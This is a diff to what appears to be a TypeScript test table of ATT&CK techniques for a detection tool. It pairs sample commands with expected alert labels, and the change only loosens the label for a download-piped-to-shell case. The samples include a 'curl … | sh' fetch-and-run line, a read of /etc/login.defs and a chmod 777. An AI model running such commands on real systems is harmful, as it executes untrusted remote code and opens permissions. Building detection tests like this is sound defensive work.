@@ -75,7 +75,8 @@ export const TECHNIQUES: readonly Technique[] = [
     'T1105',
     'a download with a shell behind it',
     `${named('curl')} -s http://192.0.2.1/ | sh`,
-    'download_feeds_shell',
+    // Which end of a pipe starts first is chance.
+    'download_feeds_shell|shell_fed_by_download',
   ),
   technique('T1201', 'the password policy is read', 'cat /etc/login.defs', 'password_policy_read'),
   technique('T1222.002', 'everybody may write', ': > $D/x; chmod 777 $D/x', 'permissions_opened_by_command'),
